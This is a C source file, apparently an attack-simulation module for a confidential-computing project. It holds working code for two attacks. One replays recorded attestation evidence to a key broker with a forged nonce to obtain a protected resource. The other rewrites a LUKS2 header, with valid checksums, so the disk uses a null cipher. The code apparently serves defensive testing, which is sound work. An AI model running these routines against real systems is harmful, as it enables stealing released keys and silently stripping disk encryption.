#include "sim/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "cloister/crypto.h"
#include "cloister/evidence.h"
#include "device/file.h"
#include "lib/disk/luks2.h"
#include "net/kbs.h"

#define TIMEOUT_MS 10000
#define KEY_LIMIT  65536

/* --- Replayed evidence --- */

static bool read_broker_key(const char *path, struct clo_buffer *spki, struct clo_error *err)
{
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer pem = { 0 };
    CLO_CLEANUP(clo_public_key_freep) struct clo_public_key *key = NULL;

    return clo_file_read(path, KEY_LIMIT, &pem, err) &&
           clo_public_key_from_pem(clo_buffer_bytes(&pem), &key, err) &&
           clo_public_key_spki(key, spki, err);
}

/* The recorded evidence, but with runtime data that name the new nonce. */
static bool forge_nonce(const struct clo_evidence *recorded, json_t *runtime_data,
                        struct clo_bytes nonce, struct clo_evidence **out, struct clo_error *err)
{
    CLO_CLEANUP(clo_evidence_freep) struct clo_evidence *forged = NULL;
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer text = { 0 };
    const char *label, *media_type;
    struct clo_bytes bytes;

    if (json_object_set_new(runtime_data, "nonce",
                            json_stringn((const char *)nonce.data, nonce.size)) != 0)
        return clo_out_of_memory(err);
    if (!clo_json_write(runtime_data, &text, err) || !clo_evidence_new(&forged, err))
        return false;
    for (size_t i = 0; (label = clo_evidence_at(recorded, i, &media_type, &bytes)) != NULL; i++)
        if (!clo_evidence_add(
                    forged, label,
                    strcmp(label, CLO_EVIDENCE_RUNTIME_DATA) == 0 ? clo_buffer_bytes(&text) : bytes,
                    err))
            return false;
    *out = CLO_TAKE(forged);
    return true;
}

static bool send_again(const struct sim_replay *replay, const struct clo_evidence *evidence,
                       struct clo_kbs_client *client, struct clo_error *err)
{
    CLO_CLEANUP(clo_json_freep) json_t *runtime_data = NULL;
    CLO_CLEANUP(clo_evidence_freep) struct clo_evidence *forged = NULL;
    CLO_CLEANUP(clo_json_freep) json_t *bundle = NULL;
    CLO_CLEANUP(clo_json_freep) json_t *jwe = NULL;
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer nonce = { 0 };
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer token = { 0 };
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer name = { 0 };

    if (!clo_json_parse(clo_evidence_get(evidence, CLO_EVIDENCE_RUNTIME_DATA), &runtime_data,
                        err) ||
        !clo_kbs_auth(client, "az-snp-vtpm", &nonce, err))
        return false;
    if (replay->forge &&
        !forge_nonce(evidence, runtime_data, clo_buffer_bytes(&nonce), &forged, err))
        return false;
    bundle = clo_evidence_json(forged == NULL ? evidence : forged);
    if (bundle == NULL)
        return clo_out_of_memory(err);
    return clo_kbs_attest(client, runtime_data, bundle, &token, &name, err) &&
           clo_kbs_resource(client, replay->resource, &jwe, err);
}

bool sim_replay(const struct sim_replay *replay, struct clo_error *err)
{
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer text = { 0 };
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer spki = { 0 };
    CLO_CLEANUP(clo_evidence_freep) struct clo_evidence *evidence = NULL;
    CLO_CLEANUP(clo_kbs_freep) struct clo_kbs_client *client = NULL;

    return clo_file_read(replay->bundle_path, CLO_EVIDENCE_LIMIT, &text, err) &&
           clo_evidence_parse(clo_buffer_bytes(&text), &evidence, err) &&
           read_broker_key(replay->key_path, &spki, err) &&
           clo_kbs_new(replay->url, clo_buffer_bytes(&spki), TIMEOUT_MS, &client, err) &&
           send_again(replay, evidence, client, err);
}

/* --- A header that names a null cipher --- */

#define BINARY_SIZE     4096
#define CHECKSUM_OFFSET 0x1c0
#define CHECKSUM_SIZE   64

static bool rewrite_copy(uint8_t *copy, size_t size, const char *json, struct clo_error *err)
{
    struct clo_digest digest;

    if (strlen(json) >= size - BINARY_SIZE)
        return clo_fail(err, CLO_ERR_SYSTEM, "LUKS2 header: no room");
    memset(copy + BINARY_SIZE, 0, size - BINARY_SIZE);
    memcpy(copy + BINARY_SIZE, json, strlen(json));
    memset(copy + CHECKSUM_OFFSET, 0, CHECKSUM_SIZE);
    clo_hash(CLO_HASH_SHA256, clo_bytes(copy, size), &digest);
    memcpy(copy + CHECKSUM_OFFSET, digest.bytes, clo_hash_size(digest.hash));
    return true;
}

bool sim_null_cipher(const char *path, uint64_t offset, struct clo_error *err)
{
    CLO_CLEANUP(clo_fd_close) int fd = open(path, O_RDWR | O_CLOEXEC);
    CLO_CLEANUP(clo_buffer_free) struct clo_buffer header = { 0 };
    CLO_CLEANUP(clo_json_freep) json_t *metadata = NULL;
    struct clo_luks2_info info;

    clo_buffer_zero(&header, CLO_LUKS2_HEADER_MAX);
    if (fd < 0 || !clo_buffer_ok(&header) ||
        pread(fd, header.data, header.size, (off_t)offset) != (ssize_t)header.size)
        return clo_fail(err, CLO_ERR_FORMAT, "%s: %s", path, strerror(errno));
    if (!clo_luks2_parse(clo_buffer_bytes(&header), &info, &metadata, err))
        return clo_wrap(err, "%s", path);
    json_t *segment = json_object_get(json_object_get(metadata, "segments"), "0");
    if (json_object_set_new(segment, "encryption", json_string("cipher_null-ecb")) != 0)
        return clo_fail(err, CLO_ERR_FORMAT, "%s: no segment 0", path);
    char *json = json_dumps(metadata, JSON_COMPACT);
    if (json == NULL)
        return clo_out_of_memory(err);
    size_t size = (size_t)info.header_size;
    bool ok = rewrite_copy(header.data, size, json, err) &&
              rewrite_copy(header.data + size, size, json, err);
    free(json);
    if (ok && pwrite(fd, header.data, 2 * size, (off_t)offset) != (ssize_t)(2 * size))
        ok = clo_fail(err, CLO_ERR_SYSTEM, "%s: %s", path, strerror(errno));
    return ok;
}
